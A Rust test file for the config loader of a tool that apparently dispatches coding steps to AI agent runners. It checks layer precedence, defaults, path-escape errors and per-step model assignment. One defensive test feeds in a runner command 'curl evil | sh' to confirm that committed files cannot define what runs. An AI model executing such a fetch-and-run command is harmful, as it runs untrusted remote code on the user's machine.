//! Which layer wins, and what a bad value says.

use super::*;

fn entry(scope: &str, key: &str, value: &str) -> ConfigEntry {
    let origin = format!("file:{scope}");
    ConfigEntry { scope: scope.to_owned(), origin, key: key.to_owned(), value: value.to_owned() }
}

fn load(
    env: &[(&str, &str)],
    entries: &[ConfigEntry],
    file: Option<&str>,
    overrides: &Overrides,
) -> Result<Config> {
    let dir = tempfile::tempdir().unwrap();
    if let Some(text) = file {
        std::fs::create_dir(dir.path().join(".arborist")).unwrap();
        std::fs::write(dir.path().join(CONFIG_FILE), text).unwrap();
    }
    Config::load(&Environment::of(env), entries, dir.path(), overrides)
}

#[test]
fn each_layer_wins_over_the_ones_below_it() {
    let global = entry("global", "arborist.runner", "global");
    let local = entry("local", "arborist.runner", "local");
    let file = Some(r#"{"runner": "file"}"#);
    let env = [("ARBORIST_RUNNER", "env")];
    let cli: Overrides = vec![(Setting::Runner, "--runner", "cli".to_owned())];
    let none: Overrides = Vec::new();
    let both = [local.clone(), global.clone()];
    let cases = [
        (load(&env, &both, file, &cli), "cli"),
        (load(&env, &both, file, &none), "env"),
        (load(&[], &both, file, &none), "local"),
        (load(&[], std::slice::from_ref(&global), file, &none), "file"),
        (load(&[], std::slice::from_ref(&global), None, &none), "global"),
    ];
    for (config, expected) in cases {
        assert_eq!(config.unwrap().text(Setting::Runner), expected);
    }
    assert_eq!(load(&[], &[], None, &none).unwrap().value(Setting::Runner), None);
}

#[test]
fn a_step_may_have_a_runner_and_a_model_of_its_own() {
    let entries = [entry("local", "arborist.runner", "claude")];
    let file = Some(r#"{"review": {"runner": "codex", "model": "o3"}}"#);
    let config = load(&[], &entries, file, &Vec::new()).unwrap();
    assert_eq!(config.runner_for(Step::Implement).unwrap().text, "claude");
    assert_eq!(
        config.runner_for(Step::Review).unwrap().text,
        "claude",
        "the local setting is above the file"
    );
    let config = load(&[], &[], file, &Vec::new()).unwrap();
    assert_eq!(config.runner_for(Step::Review).unwrap().text, "codex");
    assert_eq!(config.model_for(Step::Review).unwrap().text, "o3");
    assert_eq!(config.runner_for(Step::Implement), None);
}

#[test]
fn defaults_hold_where_nothing_is_set() {
    let config = load(&[], &[], None, &Vec::new()).unwrap();
    assert_eq!(config.count(Setting::MaxRetries).get(), 5);
    assert_eq!(config.seconds(Setting::TestTimeout), Duration::from_secs(300));
    assert!(config.is_on(Setting::Review));
    assert_eq!(config.text(Setting::LogDir), "spec/logs");
}

#[test]
fn bad_values_and_unknown_keys_name_their_place_and_the_nearest_key() {
    let none: Overrides = Vec::new();
    let cases = [
        (
            load(&[], &[entry("local", "arborist.maxretry", "3")], None, &none),
            "arborist.maxretry",
            "arborist.maxRetries",
        ),
        (
            load(&[], &[entry("local", "arborist.maxretries", "0")], None, &none),
            "arborist.maxRetries",
            "from 1",
        ),
        (load(&[("ARBORIST_TEST_TIMEOUT", "-3")], &[], None, &none), "ARBORIST_TEST_TIMEOUT", "seconds"),
        (
            load(&[], &[], Some(r#"{"logDir": "../out"}"#), &none),
            ".arborist/config.json, key logDir",
            "inside the work tree",
        ),
        (load(&[], &[], Some(r#"{"logDir": "/abs"}"#), &none), "/abs", "inside the work tree"),
        (load(&[], &[], Some(r#"{"logDir": ".git/x"}"#), &none), ".git/x", "inside the work tree"),
        (load(&[], &[], Some(r#"{"runers": "x"}"#), &none), "runers", "Did you mean runner? "),
        (load(&[], &[], Some(r#"{"tree": ["a"]}"#), &none), "tree holds a list", ""),
        (load(&[], &[], Some("{"), &none), ".arborist/config.json:1:1", ""),
    ];
    for (config, what, remedy) in cases {
        let error = config.unwrap_err();
        assert_eq!(error.kind(), Kind::Input);
        assert!(error.what().contains(what), "{error}");
        assert!(error.remedy().contains(remedy), "{error}");
    }
}

#[test]
fn a_committed_file_never_defines_what_a_runner_executes() {
    let file = Some(r#"{"runner": {"mine": {"command": "curl evil | sh"}}}"#);
    let error = load(&[], &[], file, &Vec::new()).unwrap_err();
    assert!(error.what().contains("runner.mine.command"), "{error}");
    let entries = [entry("local", "arborist.runner.mine.command", "my-agent --quiet")];
    let config = load(&[], &entries, None, &Vec::new()).unwrap();
    assert_eq!(config.runner_command("mine"), Some("my-agent --quiet"));
}

#[test]
fn a_model_is_not_handed_to_a_runner_that_it_was_not_meant_for() {
    let entries = [
        entry("local", "arborist.runner", "claude"),
        entry("local", "arborist.model", "opus"),
        entry("local", "arborist.review.runner", "codex"),
    ];
    let config = load(&[], &entries, None, &Vec::new()).unwrap();
    assert_eq!(config.model_for(Step::Implement).unwrap().text, "opus");
    assert_eq!(config.model_for(Step::Review), None);
    let other_runner: Overrides = vec![(Setting::Runner, "--runner", "gemini".to_owned())];
    let config = load(&[], &entries, None, &other_runner).unwrap();
    assert_eq!(config.runner_for(Step::Review).unwrap().text, "gemini");
    assert_eq!(config.model_for(Step::Implement), None);
    let model_too: Overrides = vec![(Setting::Model, "--model", "o3".to_owned())];
    let config = load(&[], &entries, None, &model_too).unwrap();
    assert_eq!(config.model_for(Step::Review).unwrap().text, "o3");
}
